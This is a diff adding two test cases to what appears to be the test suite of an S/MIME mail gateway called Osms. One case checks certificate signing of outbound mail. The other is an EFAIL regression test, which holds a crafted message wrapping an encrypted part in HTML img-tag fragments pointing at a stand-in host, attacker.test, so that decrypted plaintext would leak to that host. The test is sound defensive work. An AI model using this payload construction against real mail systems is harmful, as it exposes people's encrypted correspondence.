@@ -179,6 +179,23 @@ with Osms() as o:
         t.expect(m is not None and "ceo@example.test" not in
                  (m["X-Osms-SMIME"] or ""), repr(m and m["X-Osms-SMIME"]))
 
+    with t.case("a user's mail is signed with the user's certificate"):
+        mid = submit(o.ports["submission"], ["bob@example.test"],
+                     body="from alice, signed by osms\r\n")
+        m = box.wait_for("bob", mid)
+        t.require(m is not None, "not delivered")
+        raw = box.raw_bytes("bob", mid)
+        t.expect(m.get_content_type() == "multipart/signed", "not signed")
+        path = os.path.join(pki, "got.eml")
+        with open(path, "wb") as f:
+            f.write(raw)
+        v = subprocess.run(["openssl", "cms", "-verify", "-CAfile",
+                            pki + "/ca.pem", "-in", path],
+                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        t.expect(v.returncode == 0 and b"from alice, signed by osms" in
+                 v.stdout, v.stderr.decode()[-300:])
+        t.expect(m["X-Osms-SMIME"] is None, "a note on outbound mail")
+
     with t.case("encrypted for a key not here: delivered as it is"):
         mid = message_id()
         enc = cms(["-encrypt", "-aes256", pki + "/bob.pem"],
@@ -189,5 +206,34 @@ with Osms() as o:
         t.expect(code == 250 and m is not None and
                  m["X-Osms-SMIME"] == "encrypted, for no key here" and
                  b"for bob only" not in raw, "code %d" % code)
+    with t.case("EFAIL: an encrypted part between HTML parts is "
+                "decrypted apart, never joined to them"):
+        mid = message_id()
+        enc = sh(["openssl", "cms", "-encrypt", "-aes256",
+                  pki + "/alice.pem"], content("the efail secret"))
+        enc = enc.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+        body = (b"--B\r\nContent-Type: text/html\r\n\r\n"
+                b"<img src=\"http://attacker.test/?\r\n--B\r\n" + enc +
+                b"\r\n--B\r\nContent-Type: text/html\r\n\r\n\">\r\n"
+                b"--B--\r\n")
+        code, text = smtp(mx, outer("bob@remote.test", mid) +
+                          b"MIME-Version: 1.0\r\nContent-Type: multipart/"
+                          b"mixed; boundary=\"B\"\r\n\r\n" + body)
+        m = box.wait_for("alice", mid)
+        t.require(code == 250 and m is not None, "%d %r" % (code, text))
+        t.expect((m["X-Osms-SMIME"] or "").startswith(
+            "decrypted for alice@example.test (one encrypted part among "
+            "unencrypted ones"), repr(m["X-Osms-SMIME"]))
+        parts = m.get_payload()
+        t.require(m.get_content_type() == "multipart/mixed" and
+                  len(parts) == 2, "shape: %s, %d parts" % (
+                      m.get_content_type(), len(parts)))
+        first = parts[0].as_string()
+        t.expect("the efail secret" in first and "attacker" not in first,
+                 "the decrypted part alone: %r" % first[:200])
+        orig = parts[1].as_string()
+        t.expect(parts[1].get_content_type() == "message/rfc822" and
+                 "attacker.test" in orig and "the efail secret" not in
+                 orig, "the original attached, still encrypted")
 subprocess.run(["rm", "-rf", pki])
 t.done()
